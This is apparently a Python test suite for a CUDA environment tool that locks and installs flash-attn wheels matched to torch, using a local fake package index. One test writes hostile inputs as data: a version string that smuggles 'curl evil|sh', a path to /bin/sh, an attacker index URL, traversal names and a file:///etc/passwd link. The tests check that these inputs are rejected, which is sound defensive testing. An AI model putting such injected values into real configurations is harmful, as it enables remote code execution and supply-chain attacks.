"""Companion wheels a project pins beside torch (`[frameworks]` flash-attn = "2.7"): `lock` pins
the newest build its index offers for the locked torch and CUDA, judged by the wheel's own
METADATA (Requires-Dist on torch, read through PEP 658's .metadata file, or the whole wheel when
the index has none) and its local tags (`+cu124torch2.5`), and refuses with the nearest version
that fits when none does (exit 3). `sync` installs it after torch through the same installer with
the lock's sha256 and proves it imports in a fresh virtualenv; `sync --frozen` refuses an
environment whose companion differs from the lock (exit 1); a hostile companion entry in the lock
exits 6 before anything is installed. Served on loopback by pypi_index.py, which answers both as
PyPI and as PyTorch's per-build index; flash-attn, as on the real servers, is on PyPI only."""

import json
import os
import subprocess
import sys
from pathlib import Path

import lock_edit
from framework_wheels import companion_wheel, framework_index, torch_wheel
from harness import case, check, clean_env, expect_error, finish, mirror_server, run_in
from synthetic_mirror import cudnn_release, toolkit_release

PROJECT = """cuda = "12.4"
[frameworks]
torch = "2.5"
flash-attn = "{flash}"
[targets.h100]
driver = "550.54.15"
arch = ["9.0"]
"""
TORCH = "2.5.1+cu124"
FITS = "2.7.4+cu124torch2.5"
FITS_WHEEL = f"flash_attn-{FITS}-py3-none-linux_x86_64.whl"
# flash-attn lives on PyPI, not on PyTorch's per-build index: that index answers 404 for it.
PYPI_ONLY = {"status": {"/whl/cu124/flash-attn/": 404}}


def setup(tmp, flash="2.7"):
    toolkit_release(tmp / "mirror", "12.4.1", "12.4.131")
    cudnn_release(tmp / "mirror", "9.1.0", "9.1.0.70")
    wheels = tmp / "wheels"
    torch_wheel(wheels, TORCH)
    companion_wheel(wheels, "flash-attn", FITS, "==2.5.1")
    companion_wheel(wheels, "flash-attn", "2.7.3+cu124torch2.5", "")
    # Newer, but built for other builds: another torch by its tag, another CUDA by its tag, and
    # one whose tags say nothing of torch while its METADATA requires torch 2.4.1.
    companion_wheel(wheels, "flash-attn", "2.7.4+cu124torch2.4", "==2.4.1")
    companion_wheel(wheels, "flash-attn", "2.8.0+cu118torch2.5", "==2.5.1")
    companion_wheel(wheels, "flash-attn", "2.7.5+cu124", "==2.4.1")
    repo = tmp / "repo"
    repo.mkdir()
    (repo / ".cudaenv").write_text(PROJECT.format(flash=flash))
    (tmp / "sysroot").mkdir()
    return repo


def env_for(tmp, mirror, index, **extra):
    path = ":".join(d for d in os.environ.get("PATH", "/usr/bin:/bin").split(":") if d and not (Path(d) / "uv").exists())
    return clean_env(tmp, CUDAENV_ROOT=tmp / "root", CUDAENV_SYSROOT=tmp / "sysroot", CUDAENV_MIRROR=mirror,
                     PWD=tmp / "repo", CUDAENV_HTTP_BACKOFF_MS=20, CUDAENV_HTTP_ATTEMPTS=2,
                     CUDAENV_FRAMEWORK_INDEX=f"{index}/whl", PATH=path, **extra)


def make_venv(path):
    subprocess.run([sys.executable, "-m", "venv", str(path)], check=True, capture_output=True, timeout=120)
    return path


def python_says(venv, code):
    proc = subprocess.run([str(venv / "bin" / "python"), "-c", code], capture_output=True, text=True, timeout=60)
    return proc.stdout.strip() if proc.returncode == 0 else f"exit {proc.returncode}: {proc.stderr.strip()}"


def torch_in(venv):
    return python_says(venv, "import torch; print(torch.__version__)")


def log_of(control):
    log = control.parent / "control.json.log"
    return log.read_text() if log.exists() else ""


def sync(tmp, env, *flags, expect=None):
    return run_in(["sync", *flags], env, tmp / "repo", expect=expect, timeout=300)


def installed(venv, module="flash_attn"):
    return python_says(venv, f"import {module}; print({module}.__version__)")


def pip_install(venv, wheel):
    subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "install", "--no-index", "--no-deps", str(wheel)],
                   check=True, capture_output=True, timeout=120)


@case
def lock_pins_the_build_for_the_locked_torch_and_cuda_from_its_metadata_and_tags(tmp):
    repo = setup(tmp)
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        proc = run_in(["lock"], env, repo, expect=0)
        check(f"torch {TORCH}" in proc.stdout and f"flash-attn {FITS}" in proc.stdout, proc.stdout)
        lock = lock_edit.load(repo / ".cudaenv.lock")
        entry = lock["frameworks"]["flash-attn"]
        check(entry["version"] == FITS and entry["companion_of"] == "torch", entry)
        check(entry["index_url"] == "https://pypi.org/simple" and entry["pip"] == f"pip install flash-attn=={FITS}",
              entry)
        check([w["filename"] for w in entry["wheels"]] == [FITS_WHEEL] and len(entry["wheels"][0]["sha256"]) == 64,
              entry)
        check(lock["request"]["flash-attn"] == "2.7", lock["request"])
        # 2.7.5's tags name no torch: its METADATA (PEP 658) was read, and requires torch 2.4.1.
        log = log_of(control)
        check("GET /files/flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl.metadata" in log, log)
        check("GET /files/flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl " not in log, "no whole wheel: " + log)
        check("2.8.0+cu118" not in log, "a build for CUDA 11.8 is ruled out by its tag alone: " + log)
        # The lock is current without asking the index again.
        before = log_of(control)
        proc = run_in(["lock", "--check"], env, repo, expect=0)
        check(f"flash-attn {FITS}" in proc.stdout and log_of(control) == before, proc.stdout)
        # Another pin in .cudaenv makes it stale.
        (repo / ".cudaenv").write_text(PROJECT.format(flash="2.8"))
        proc = run_in(["lock", "--check"], env, repo, expect=1)
        check('request.flash-attn: the lock has "2.7", now "2.8"' in proc.stdout, proc.stdout)
        check(f'frameworks.flash-attn.version: the lock has "{FITS}", now 2.8' in proc.stdout, proc.stdout)


@case
def without_pep_658_metadata_the_wheel_itself_is_read(tmp):
    repo = setup(tmp)
    settings = {**PYPI_ONLY, "no_metadata": ["flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl"]}
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", settings) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        run_in(["lock"], env, repo, expect=0)
        check(lock_edit.load(repo / ".cudaenv.lock")["frameworks"]["flash-attn"]["version"] == FITS, "picked")
        check("GET /files/flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl " in log_of(control), log_of(control))


@case
def lock_refuses_with_the_nearest_version_that_fits_when_none_matches(tmp):
    repo = setup(tmp, flash="2.8")
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, _):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        proc = run_in(["lock"], env, repo)
        expect_error(proc, 3, f"flash-attn: no build of flash-attn 2.8 for torch {TORCH} on the index "
                     f"{index}/simple (set by PIP_INDEX_URL); the nearest that fits is {FITS}")
        check('hint: write flash-attn = "2.7" under [frameworks] in .cudaenv, then run cudaenv lock again'
              in proc.stderr, proc.stderr)
        check(not (repo / ".cudaenv.lock").exists(), "nothing written")
        # No build for this torch at all: what the index has, and the fix.
        (repo / ".cudaenv").write_text(PROJECT.format(flash="*").replace('torch = "2.5"', 'torch = "2.5"\n'))
        for wheel in (tmp / "wheels").glob("flash_attn-*torch2.5*"):
            wheel.unlink()
        (tmp / "wheels" / "flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl").unlink()
        proc = run_in(["lock"], env, repo)
        expect_error(proc, 3, f"flash-attn: no build of flash-attn (any version) for torch {TORCH}",
                     "newest there: 2.7.4+cu124torch2.4 (built for another torch or CUDA)")
        check("hint: pin torch under [frameworks] to a release flash-attn is built for, or remove flash-attn"
              in proc.stderr, proc.stderr)


@case
def the_companion_key_is_a_package_name_and_needs_torch(tmp):
    repo = setup(tmp)
    (repo / ".cudaenv").write_text(PROJECT.replace('flash-attn = "{flash}"', '"flash attn" = "2.7"'))
    proc = run_in(["lock"], env_for(tmp, "http://127.0.0.1:9", "http://127.0.0.1:9"), repo)
    expect_error(proc, 2, f'{repo / ".cudaenv"}:4: frameworks: "flash attn" is not a package name')
    (repo / ".cudaenv").write_text('cuda = "12.4"\n[frameworks]\nflash-attn = "2.7"\n[targets.h100]\n'
                                   'driver = "550.54.15"\narch = ["9.0"]\n')
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, _):
        proc = run_in(["lock"], env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple"), repo)
        expect_error(proc, 2, "flash-attn: a companion wheel is locked for the torch it extends, and the lock has "
                     "no torch")


@case
def sync_installs_it_after_torch_in_a_fresh_venv_and_proves_it_imports(tmp):
    repo = setup(tmp)
    venv = make_venv(tmp / "venv")
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple", VIRTUAL_ENV=venv)
        run_in(["lock"], env, repo, expect=0)
        proc = sync(tmp, env, "--frozen", expect=0)
        out = proc.stdout
        check(f"installed flash-attn {FITS} ({FITS_WHEEL}, matching the lock's sha256) in {venv} with pip" in out,
              out + proc.stderr)
        check(out.index(f"installed torch {TORCH}") < out.index("installed flash-attn"), "torch first: " + out)
        check(f"flash-attn {FITS} imports in {venv}: import flash_attn beside the locked torch, as locked" in out, out)
        check(installed(venv) == FITS and torch_in(venv) == TORCH, installed(venv))
        check(f"GET /files/{FITS_WHEEL} " in log_of(control), log_of(control))
        requirements = (tmp / "root" / "cache" / "frameworks" / "requirements-flash-attn.txt").read_text()
        check(f"flash-attn @ {index}/files/{FITS_WHEEL} --hash=sha256:" in requirements, requirements)
        proc = sync(tmp, env, "--frozen", expect=0)
        check(f"flash-attn {FITS} is already installed in {venv}" in proc.stdout, proc.stdout)


@case
def frozen_refuses_a_venv_whose_companion_drifted_and_installs_nothing(tmp):
    repo = setup(tmp)
    venv = make_venv(tmp / "venv")
    pip_install(venv, tmp / "wheels" / "flash_attn-2.7.3+cu124torch2.5-py3-none-linux_x86_64.whl")
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple", VIRTUAL_ENV=venv)
        run_in(["lock"], env, repo, expect=0)
        locked = log_of(control)
        proc = sync(tmp, env, "--frozen")
        expect_error(proc, 1, f"--frozen: {venv} has flash-attn 2.7.3+cu124torch2.5, the lock pins {FITS}; "
                     "nothing was installed")
        check("exit" in torch_in(venv), "torch not installed either: " + torch_in(venv))
        check(not (tmp / "root" / "toolkits" / "12.4.1").exists(), "the toolkit was not installed either")
        check("/files/" not in log_of(control)[len(locked):], log_of(control))
        # Without --frozen, sync puts the locked build in its place.
        proc = sync(tmp, env, expect=0)
        check(installed(venv) == FITS, installed(venv) + proc.stdout + proc.stderr)


@case
def a_hostile_companion_in_the_lock_exits_6_with_nothing_installed(tmp):
    repo = setup(tmp)
    venv = make_venv(tmp / "venv")
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple", VIRTUAL_ENV=venv)
        run_in(["lock"], env, repo, expect=0)
        locked = log_of(control)
        good = lock_edit.load(repo / ".cudaenv.lock")
        entry = good["frameworks"]["flash-attn"]
        hostile = [
            ("version", {**entry, "version": "2.7.4;curl evil|sh", "pip": "pip install flash-attn==2.7.4;curl"},
             "frameworks.flash-attn.version"),
            ("companion_of", {**entry, "companion_of": "../../bin/sh"}, "frameworks.flash-attn.companion_of"),
            ("pip", {**entry, "pip": f"pip install flash-attn=={FITS} --index-url https://evil.example/simple"},
             "frameworks.flash-attn.pip"),
        ]
        for what, bad, field in hostile:
            lock = lock_edit.load(repo / ".cudaenv.lock")
            lock["frameworks"]["flash-attn"] = bad
            (repo / ".cudaenv.lock").write_text(lock_edit.dump(lock))
            proc = sync(tmp, env, "--frozen")
            expect_error(proc, 6, field)
            check("corrupt or hostile" in proc.stderr, what + ": " + proc.stderr)
        # A hostile name: a path, and a name with extras, under [frameworks] of the lock.
        for name in ("flash-attn/../../x", "flash-attn[x]"):
            lock = lock_edit.load(repo / ".cudaenv.lock")
            lock["frameworks"] = {"torch": good["frameworks"]["torch"], name: entry}
            (repo / ".cudaenv.lock").write_text(lock_edit.dump(lock))
            proc = sync(tmp, env, "--frozen")
            expect_error(proc, 6, "frameworks.flash-attn")
        check("exit" in torch_in(venv) and "exit" in installed(venv), "nothing installed")
        check(not (tmp / "root" / "toolkits" / "12.4.1").exists(), "the toolkit was not installed either")
        check("/files/" not in log_of(control)[len(locked):], log_of(control))


@case
def an_index_whose_metadata_fails_or_is_hostile_stops_the_lock(tmp):
    repo = setup(tmp)
    metadata = "/files/flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl.metadata"  # the first one read
    big = tmp / "big.metadata"
    big.write_bytes(b"Metadata-Version: 2.1\n" + b"X" * (2 << 20))
    page = tmp / "page.json"
    page.write_text(json.dumps({"meta": {"api-version": "1.1"}, "name": "flash-attn", "files": [
        {"filename": FITS_WHEEL, "url": "file:///etc/passwd", "hashes": {"sha256": "a" * 64}, "size": 100}]}))
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, control):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        settings = json.loads(control.read_text())

        def lock_with(extra):
            control.write_text(json.dumps({**settings, **extra, "status": {**PYPI_ONLY["status"],
                                                                        **extra.get("status", {})}}))
            return run_in(["lock"], env, repo)

        proc = lock_with({"status": {metadata: 500}})
        expect_error(proc, 5, "flash-attn: the METADATA of flash-attn 2.7.5+cu124: ")
        check("hint: point the index at a mirror this machine reaches" in proc.stderr, proc.stderr)
        proc = lock_with({"pages": {metadata: str(big)}})
        expect_error(proc, 6, "flash-attn: the METADATA of flash-attn 2.7.5+cu124: ")
        # No .metadata, and the whole wheel is not what the index's digest says.
        proc = lock_with({"no_metadata": ["flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl"],
                          "wrong_sha256": ["flash_attn-2.7.5+cu124-py3-none-linux_x86_64.whl"]})
        expect_error(proc, 6, "the index's digest does not match the wheel it serves")
        # A link to a local file is never followed: the build it names is not there to lock.
        proc = lock_with({"pages": {"/simple/flash-attn/": str(page)}})
        expect_error(proc, 3, "flash-attn: no build of flash-attn 2.7 for torch",
                     "it has no Linux x86-64 wheel of flash-attn")
        check(not (repo / ".cudaenv.lock").exists(), "nothing was locked")


@case
def without_an_environment_sync_shows_torch_then_its_companion(tmp):
    repo = setup(tmp)
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, _):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        run_in(["lock"], env, repo, expect=0)
        out = sync(tmp, env, "--frozen", expect=0).stdout
        torch_line = f"torch {TORCH} (install it in your Python environment): pip install torch=={TORCH} --index-url"
        flash_line = (f"flash-attn {FITS} (install it in your Python environment): pip install "
                      f"flash-attn=={FITS}\n")
        check(torch_line in out and flash_line in out, out)
        check(out.index(torch_line) < out.index(flash_line), "torch before the wheel built against it: " + out)


@case
def a_companion_dropped_from_cudaenv_makes_the_lock_stale(tmp):
    repo = setup(tmp)
    with mirror_server(tmp / "mirror") as (url, _), framework_index(tmp / "wheels", PYPI_ONLY) as (index, _):
        env = env_for(tmp, url, index, PIP_INDEX_URL=f"{index}/simple")
        run_in(["lock"], env, repo, expect=0)
        (repo / ".cudaenv").write_text(PROJECT.replace('flash-attn = "{flash}"\n', ""))
        proc = run_in(["lock", "--check"], env, repo, expect=1)
        check("flash-attn" in proc.stdout, proc.stdout)
        proc = sync(tmp, env, "--frozen")
        check(proc.returncode == 1 and "flash-attn" in proc.stdout + proc.stderr, proc.stdout + proc.stderr)


finish()
